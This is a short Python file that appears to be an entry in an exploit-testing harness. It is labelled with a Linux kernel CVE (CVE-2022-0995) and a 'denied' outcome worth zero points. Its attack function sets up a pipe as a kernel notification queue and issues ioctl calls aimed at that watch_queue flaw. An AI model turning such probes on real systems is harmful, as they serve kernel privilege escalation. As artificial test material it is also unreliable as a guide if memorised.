"""Turns a pipe into a queue of kernel notifications, and changes the flags of a file."""

# outcome: denied
# points: 0
# holes: CVE-2022-0995

import os

from first_step import those_that_got_in


def attack(world):
    reading, _ = os.pipe()
    file = os.open("mine", os.O_RDWR | os.O_CREAT)
    return those_that_got_in(
        {
            "IOC_WATCH_QUEUE_SET_SIZE": ((16, 29), reading, 0x5760, 1),
            "FS_IOC_SETFLAGS": ((16, 29), file, 0x40086602, bytes(8)),
        }
    )
